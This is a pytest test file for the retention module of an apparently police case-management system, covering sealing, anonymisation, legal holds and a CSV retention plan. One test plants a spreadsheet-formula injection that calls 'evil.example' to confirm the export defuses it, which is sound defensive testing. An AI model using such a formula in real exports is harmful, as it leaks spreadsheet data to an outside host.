"""Retention: sealing and anonymising closed cases, legal holds, the plan (cases/retention.py,
cases/services/retention.py)."""

import dataclasses
import io
from datetime import timedelta

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import call_command
from django.db import IntegrityError, transaction
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from accounts.models import OrgUnit, Role
from accounts.selectors import actor_for
from cases import policy, retention, services
from cases.choices import AccessAction, CaseStatus, Disposition, EventKind, IncidentKind, InjuryGrade
from cases.models import AccessLog, Attachment, Case, CaseEvent, InvolvedOfficer, RetentionPolicy, Suspect
from cases.queue_filters import QueueFilters, queue_cases
from cases.reports.yearly import yearly_report
from cases.search import search_page
from cases.services import retention as retention_services
from cases.tasks import apply_retention as apply_retention_task
from cases.workflow_actions import WORKFLOW_ACTIONS
from tests.api.conftest import JPEG, stored_files, token_client, upload
from tests.factories import PATH, World, case_in, member

ID_NUMBER = "330106199001011234"
SEAL_DAYS = 730
ANONYMISE_DAYS = 1825


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def _finish(world: World, case: Case) -> Case:
    """Conclude (every suspect disposed of) and close a case in supervision."""
    case = WORKFLOW_ACTIONS["conclude"].service(case=case, by=world.supervisor, expected_version=case.version)
    close = dict(PATH[CaseStatus.CLOSED][-1][2])
    return WORKFLOW_ACTIONS["close"].service(case=case, by=world.supervisor, expected_version=case.version, **close)


def closed_case(world: World, **details) -> Case:
    """A closed case with an identified, convicted suspect with an ID number, an injured officer with medical
    details, and an evidence file."""
    case = case_in(world, CaseStatus.SUPERVISION, **details)
    suspect = services.add_suspect(case=case, by=world.supervisor, name="张某", id_number=ID_NUMBER)
    services.record_disposition(suspect=suspect, by=world.supervisor, disposition=Disposition.CONVICTED_277_5_BASIC)
    officer = InvolvedOfficer.objects.filter(case=case).first()
    if officer is None:
        officer = services.add_involved_officer(case=case, by=world.supervisor, name="王警官")
    services.update_involved_officer(
        officer=officer, by=world.supervisor, injury=InjuryGrade.MINOR_2, medical_notes="左臂骨折，已住院"
    )
    services.add_evidence(case=Case.objects.get(pk=case.pk), by=world.supervisor, file=upload(JPEG))
    case = _finish(world, Case.objects.get(pk=case.pk))
    assert case.status == CaseStatus.CLOSED
    assert case.closed_at is not None
    return case


def days_after_closure(case: Case, days: int, extra: timedelta = timedelta(hours=1)):
    assert case.closed_at is not None
    return case.closed_at + timedelta(days=days) + extra


def report_figures(unit: OrgUnit, year: int, source: str):
    return dataclasses.replace(
        yearly_report(unit=unit, year=year, source=source), generated_at=None, figures_as_of=None
    )


# --- sealing --------------------------------------------------------------------------------------------------------


def test_the_migration_seeds_a_period_for_every_incident_type_with_its_basis(db):
    rows = {p.kind: p for p in RetentionPolicy.objects.all()}
    assert set(rows) == set(IncidentKind.values)
    for row in rows.values():
        assert (row.seal_after_days, row.anonymise_after_days) == (SEAL_DAYS, ANONYMISE_DAYS)
        assert "PIPL Art. 19" in row.basis
        assert "Art. 47" in row.basis
        assert "archive rules" in row.basis
        assert row.basis_verified is False


def test_the_database_refuses_anonymising_before_sealing(db):
    row = RetentionPolicy.objects.get(kind=IncidentKind.THREAT)
    with pytest.raises(IntegrityError), transaction.atomic():
        RetentionPolicy.objects.filter(pk=row.pk).update(anonymise_after_days=row.seal_after_days - 1)


def test_nothing_is_sealed_before_its_date(world, media):
    case = closed_case(world)
    run = retention_services.apply_retention(now=days_after_closure(case, SEAL_DAYS, extra=-timedelta(hours=1)))
    assert run.as_dict() == {"sealed": 0, "anonymised": 0, "files_removed": 0, "files_left": 0}
    assert Case.objects.get(pk=case.pk).sealed_at is None


def test_a_sealed_case_leaves_queues_search_and_the_api_for_supervisors_and_officers(world, media):
    case = closed_case(world)
    closed = QueueFilters(statuses=(CaseStatus.CLOSED,))
    readers = [world.officer, world.supervisor, world.county_supervisor, world.ministry_supervisor]
    for user in readers:
        assert policy.visible_cases(actor_for(user)).filter(pk=case.pk).exists(), user
    assert case.pk in [c.pk for c in queue_cases(actor_for(world.supervisor), closed)]
    assert [c.pk for c in search_page(actor_for(world.supervisor), case.reference).cases] == [case.pk]
    assert [c.pk for c in search_page(actor_for(world.officer), case.reference).cases] == [case.pk]

    now = days_after_closure(case, SEAL_DAYS)
    run = retention_services.apply_retention(now=now)

    assert run.sealed == [case.reference]
    sealed = Case.objects.get(pk=case.pk)
    assert (sealed.sealed_at, sealed.anonymised_at) == (now, None)
    assert sealed.version == case.version + 1
    event = CaseEvent.objects.get(case=case, kind=EventKind.SEALED)
    assert (event.actor, event.data["seal_after_days"]) == (None, SEAL_DAYS)
    for user in readers:
        actor = actor_for(user)
        assert not policy.visible_cases(actor).filter(pk=case.pk).exists(), user
        assert not policy.can_see(actor, sealed), user
        assert search_page(actor, case.reference).cases == [], user
    assert case.pk not in [c.pk for c in queue_cases(actor_for(world.supervisor), closed)]
    assert not policy.supervised_cases(actor_for(world.supervisor)).filter(pk=case.pk).exists()

    for user in (world.officer, world.supervisor):
        api = token_client(user)
        assert api.get(f"/api/v1/cases/{case.pk}/").status_code == 404
        assert case.pk not in [c["id"] for c in api.get("/api/v1/cases/?status=closed").json()["results"]]
        browser = Client()
        browser.force_login(user)
        assert browser.get(f"/cases/{case.pk}/").status_code == 404

    # The administrator of the province still reads it, and every read is in the access log.
    admin = actor_for(world.admin)
    assert policy.visible_cases(admin).filter(pk=case.pk).exists()
    assert [c.pk for c in search_page(admin, case.reference).cases] == [case.pk]
    assert policy.available_actions(admin, sealed) == []
    views = AccessLog.objects.filter(case=case, action=AccessAction.VIEW, user=world.admin)
    before = views.count()
    assert token_client(world.admin).get(f"/api/v1/cases/{case.pk}/").status_code == 200
    browser = Client()
    browser.force_login(world.admin)
    assert browser.get(f"/cases/{case.pk}/").status_code == 200
    assert views.count() == before + 2


def test_a_sealed_case_leaves_the_dashboard_counts_of_supervisors(world, media):
    case = closed_case(world)
    submitted = QueueFilters(statuses=(CaseStatus.CLOSED,), submitted_after=case.submitted_at)
    assert queue_cases(actor_for(world.supervisor), submitted).count() == 1
    retention_services.apply_retention(now=days_after_closure(case, SEAL_DAYS))
    assert queue_cases(actor_for(world.supervisor), submitted).count() == 0
    assert queue_cases(actor_for(world.admin), submitted).count() == 1


# --- anonymising -----------------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("postgres_only")
def test_anonymising_keeps_the_report_figures_exactly_and_removes_the_people(world, media):
    case = closed_case(world)
    year = timezone.localtime(case.submitted_at).year
    before = {
        "city": report_figures(world.city, year, "live"),
        "province": report_figures(world.province, year, "summaries"),
    }
    files = stored_files()
    attachment = Attachment.objects.get(case=case)
    assert attachment.stored_name in files

    now = days_after_closure(case, ANONYMISE_DAYS)
    run = retention_services.apply_retention(now=now)

    assert (run.sealed, run.anonymised, run.files_removed, run.files_left) == ([case.reference], [case.reference], 1, 0)
    assert report_figures(world.city, year, "live") == before["city"]
    assert report_figures(world.province, year, "summaries") == before["province"]
    done = Case.objects.get(pk=case.pk)
    assert (done.sealed_at, done.anonymised_at) == (now, now)
    assert (done.summary, done.narrative, done.location, done.party_names) == ("", "", "", "")
    officer = InvolvedOfficer.objects.get(case=case)
    assert (officer.name, officer.badge_number, officer.medical_notes, officer.user_id) == (
        retention_services.REMOVED,
        "",
        "",
        None,
    )
    assert officer.injury == InjuryGrade.MINOR_2
    suspect = Suspect.objects.get(case=case)
    assert (suspect.name, suspect.id_number, suspect.id_number_index) == ("", "", "")
    assert suspect.disposition == Disposition.CONVICTED_277_5_BASIC
    # The evidence file is gone from storage, its row too; the timeline says what was removed.
    assert not Attachment.objects.filter(case=case).exists()
    assert attachment.stored_name not in stored_files()
    assert stored_files() == files - {attachment.stored_name}
    event = CaseEvent.objects.get(case=case, kind=EventKind.ANONYMISED)
    assert event.data["files_removed"] == [
        {
            "sha256": attachment.sha256,
            "size": attachment.size,
            "content_type": attachment.content_type,
            "uploaded_at": attachment.uploaded_at.isoformat(),
        }
    ]
    assert (event.data["officers"], event.data["suspects"]) == (1, 1)


def test_the_job_twice_does_nothing_more_and_keeps_the_access_log(world, media):
    case = closed_case(world)
    browser = Client()
    browser.force_login(world.supervisor)
    browser.get(f"/cases/{case.pk}/")
    log = list(AccessLog.objects.order_by("pk").values_list("pk", "user_id", "case_id", "action", "at"))
    assert log
    now = days_after_closure(case, ANONYMISE_DAYS)
    first = retention_services.apply_retention(now=now)
    events = CaseEvent.objects.filter(case=case).count()
    state = Case.objects.filter(pk=case.pk).values_list("version", "sealed_at", "anonymised_at").get()

    second = retention_services.apply_retention(now=now + timedelta(days=1))

    assert (len(first.sealed), len(first.anonymised)) == (1, 1)
    assert second.as_dict() == {"sealed": 0, "anonymised": 0, "files_removed": 0, "files_left": 0}
    assert CaseEvent.objects.filter(case=case).count() == events
    assert Case.objects.filter(pk=case.pk).values_list("version", "sealed_at", "anonymised_at").get() == state
    # The job never removes access-log rows: every row read before is still there, unchanged.
    assert (
        list(
            AccessLog.objects.filter(pk__in=[r[0] for r in log])
            .order_by("pk")
            .values_list("pk", "user_id", "case_id", "action", "at")
        )
        == log
    )


def test_the_beat_task_runs_once_per_period(world, media, settings):
    closed_case(world)
    assert apply_retention_task(period=24 * 3600.0) == {
        "sealed": 0,
        "anonymised": 0,
        "files_removed": 0,
        "files_left": 0,
    }
    assert apply_retention_task(period=24 * 3600.0) == {"skipped": 1}
    assert settings.CELERY_BEAT_SCHEDULE["apply-retention"]["task"] == "cases.apply_retention"


def test_the_batch_bounds_each_run(world, media):
    first = closed_case(world)
    second = closed_case(world)
    now = days_after_closure(max(first, second, key=lambda c: c.closed_at), SEAL_DAYS)
    assert retention_services.apply_retention(now=now, batch=1).sealed == [first.reference]
    assert retention_services.apply_retention(now=now, batch=1).sealed == [second.reference]


# --- legal holds ------------------------------------------------------------------------------------------------------


def test_a_held_case_is_untouched_until_the_hold_is_lifted(world, media):
    case = closed_case(world)
    files = stored_files()
    held = retention_services.place_legal_hold(case=case, by=world.admin, reason="Civil claim pending in court")
    assert (held.legal_hold, held.legal_hold_by, held.legal_hold_reason) == (
        True,
        world.admin,
        "Civil claim pending in court",
    )
    snapshot = Case.objects.filter(pk=case.pk).values().get()
    officers = list(InvolvedOfficer.objects.filter(case=case).values())
    suspects = list(Suspect.objects.filter(case=case).values())
    events = CaseEvent.objects.filter(case=case).count()

    run = retention_services.apply_retention(now=days_after_closure(case, ANONYMISE_DAYS))

    assert run.as_dict() == {"sealed": 0, "anonymised": 0, "files_removed": 0, "files_left": 0}
    assert Case.objects.filter(pk=case.pk).values().get() == snapshot
    assert list(InvolvedOfficer.objects.filter(case=case).values()) == officers
    assert list(Suspect.objects.filter(case=case).values()) == suspects
    assert CaseEvent.objects.filter(case=case).count() == events
    assert stored_files() == files

    retention_services.lift_legal_hold(case=case, by=world.admin, reason="Claim settled")
    hold_events = CaseEvent.objects.filter(case=case, kind=EventKind.LEGAL_HOLD).order_by("pk")
    assert [(e.actor, e.data) for e in hold_events] == [
        (world.admin, {"held": True, "reason": "Civil claim pending in court"}),
        (world.admin, {"held": False, "reason": "Claim settled"}),
    ]
    run = retention_services.apply_retention(now=days_after_closure(case, ANONYMISE_DAYS))
    assert (run.sealed, run.anonymised) == ([case.reference], [case.reference])


@pytest.mark.parametrize("who", ["officer", "supervisor", "ministry_supervisor"])
def test_only_an_administrator_of_the_unit_holds_a_case(world, media, who):
    case = closed_case(world)
    before = Case.objects.filter(pk=case.pk).values().get()
    with pytest.raises(PermissionDenied):
        retention_services.place_legal_hold(case=case, by=getattr(world, who), reason="Because")
    assert Case.objects.filter(pk=case.pk).values().get() == before


def test_a_hold_needs_a_reason(world, media):
    case = closed_case(world)
    with pytest.raises(ValidationError):
        retention_services.place_legal_hold(case=case, by=world.admin, reason="  ")
    assert Case.objects.get(pk=case.pk).legal_hold is False


def test_the_hold_api(world, media):
    case = closed_case(world)
    url = f"/api/v1/cases/{case.pk}/legal-hold/"
    before = Case.objects.filter(pk=case.pk).values().get()
    events = CaseEvent.objects.count()
    answers = {
        who: token_client(getattr(world, who)).post(url, {"reason": "Court order"}, format="json").status_code
        for who in ("officer", "other_officer", "supervisor", "sibling_supervisor")
    }
    assert answers == {"officer": 403, "other_officer": 404, "supervisor": 403, "sibling_supervisor": 404}
    assert token_client(world.admin).post(url, {}, format="json").status_code == 400
    assert APIClient().post(url, {"reason": "Court order"}, format="json").status_code == 401
    assert Case.objects.filter(pk=case.pk).values().get() == before
    assert CaseEvent.objects.count() == events

    admin = token_client(world.admin)
    response = admin.post(url, {"reason": "Court order"}, format="json")
    assert response.status_code == 200
    assert (response.json()["legal_hold"], response.json()["legal_hold_reason"]) == (True, "Court order")
    assert admin.post(url, {"reason": "Again"}, format="json").status_code == 400
    lifted = admin.post(f"{url}lift/", {"reason": "Order quashed"}, format="json")
    assert (lifted.status_code, lifted.json()["legal_hold"]) == (200, False)
    assert Case.objects.get(pk=case.pk).legal_hold is False


def test_the_hold_page(world, media):
    case = closed_case(world)
    url = f"/cases/{case.pk}/legal-hold/"
    browser = Client()
    browser.force_login(world.supervisor)
    assert browser.post(url, {"reason": "Court order"}).status_code == 403
    assert Case.objects.get(pk=case.pk).legal_hold is False
    browser.force_login(world.admin)
    assert browser.get(url).status_code == 200
    assert browser.post(url, {"reason": ""}).status_code == 400
    assert browser.post(url, {"reason": "Court order"}).status_code == 302
    assert Case.objects.get(pk=case.pk).legal_hold_reason == "Court order"


# --- the plan ---------------------------------------------------------------------------------------------------------


def _month_of(moment):
    local = timezone.localtime(moment)
    return local.date().replace(day=1)


def test_the_plan_lists_exactly_the_cases_due_in_the_month(world, media):
    attack = closed_case(world)
    threat = closed_case(world, kind=IncidentKind.THREAT)
    held = closed_case(world)
    retention_services.place_legal_hold(case=held, by=world.admin, reason="Court order")
    retention_services.change_retention_policy(
        policy_row=RetentionPolicy.objects.get(kind=IncidentKind.THREAT),
        by=member(world.ministry, Role.ADMIN),
        seal_after_days=400,
        anonymise_after_days=900,
        reason="Threat cases need no longer",
    )
    seal_month = _month_of(days_after_closure(attack, SEAL_DAYS, extra=timedelta(0)))
    plan = retention.retention_plan(seal_month)
    # The threat case's seal date moved to 400 days after closure, the held case is left out.
    assert [(r.reference, r.step) for r in plan] == [(attack.reference, retention.SEAL)]
    assert plan[0].due_at == attack.closed_at + timedelta(days=SEAL_DAYS)

    threat_month = _month_of(days_after_closure(threat, 400, extra=timedelta(0)))
    assert [(r.reference, r.step) for r in retention.retention_plan(threat_month)] == [
        (threat.reference, retention.SEAL)
    ]
    anonymise_month = _month_of(days_after_closure(attack, ANONYMISE_DAYS, extra=timedelta(0)))
    assert [(r.reference, r.step) for r in retention.retention_plan(anonymise_month)] == [
        (attack.reference, retention.ANONYMISE)
    ]
    # Scoped to the subtrees administered: another province's administrator sees none of it.
    assert retention.retention_plan(seal_month, paths=(world.sibling_province.path,)) == []


def test_the_plan_command_writes_csv_with_hostile_text_made_safe(world, media):
    case = closed_case(world)
    OrgUnit.objects.filter(pk=world.station.pk).update(name='=HYPERLINK("http://evil.example/?"&A2)')
    month = _month_of(days_after_closure(case, SEAL_DAYS, extra=timedelta(0)))
    out = io.StringIO()
    call_command("retention", "--plan", "--month", f"{month:%Y-%m}", stdout=out)
    lines = out.getvalue().splitlines()
    assert lines[0] == "Reference,Handling unit,Incident type,Closed at,Step,Due on"
    assert len(lines) == 2
    assert lines[1].startswith(f"{case.reference},\"'=HYPERLINK(")
    assert lines[1].endswith(f",Seal,{timezone.localtime(case.closed_at + timedelta(days=SEAL_DAYS)):%Y-%m-%d}")


def test_the_plan_api_and_page_are_for_administrators(world, media):
    case = closed_case(world)
    month = _month_of(days_after_closure(case, SEAL_DAYS, extra=timedelta(0)))
    url = f"/api/v1/retention/plan/?month={month:%Y-%m}"
    assert token_client(world.supervisor).get(url).status_code == 403
    assert token_client(world.officer).get(url).status_code == 403
    answer = token_client(world.admin).get(url)
    assert answer.status_code == 200
    assert [(r["reference"], r["step"]) for r in answer.json()] == [(case.reference, "seal")]
    assert token_client(world.admin).get("/api/v1/retention/plan/?month=2026-13").status_code == 400

    browser = Client()
    browser.force_login(world.supervisor)
    assert browser.get("/retention/").status_code == 403
    assert browser.get(f"/retention/plan.csv?month={month:%Y-%m}").status_code == 403
    browser.force_login(world.admin)
    page = browser.get(f"/retention/?month={month:%Y-%m}")
    assert page.status_code == 200
    assert case.reference in page.content.decode()
    exports = AccessLog.objects.filter(action=AccessAction.EXPORT, user=world.admin)
    csv = browser.get(f"/retention/plan.csv?month={month:%Y-%m}")
    assert csv.status_code == 200
    assert case.reference in b"".join(csv.streaming_content).decode("utf-8-sig")
    assert exports.count() == 1


# --- the periods ------------------------------------------------------------------------------------------------------


def test_a_period_change_keeps_its_reason_and_is_for_administrators_of_the_whole_tree(world):
    row = RetentionPolicy.objects.get(kind=IncidentKind.DOXXING)
    with pytest.raises(PermissionDenied):
        retention_services.change_retention_policy(
            policy_row=row, by=world.admin, seal_after_days=100, anonymise_after_days=200, reason="Shorter"
        )
    ministry_admin = member(world.ministry, Role.ADMIN)
    with pytest.raises(ValidationError):
        retention_services.change_retention_policy(
            policy_row=row, by=ministry_admin, seal_after_days=100, anonymise_after_days=99, reason="Backwards"
        )
    with pytest.raises(ValidationError):
        retention_services.change_retention_policy(
            policy_row=row, by=ministry_admin, seal_after_days=100, anonymise_after_days=200, reason=""
        )
    assert RetentionPolicy.objects.filter(pk=row.pk).values_list("seal_after_days", "anonymise_after_days").get() == (
        SEAL_DAYS,
        ANONYMISE_DAYS,
    )
    retention_services.change_retention_policy(
        policy_row=row, by=ministry_admin, seal_after_days=100, anonymise_after_days=200, reason="Shorter"
    )
    change = row.changes.get()
    assert (change.previous_seal_after_days, change.seal_after_days, change.reason, change.by) == (
        SEAL_DAYS,
        100,
        "Shorter",
        ministry_admin,
    )
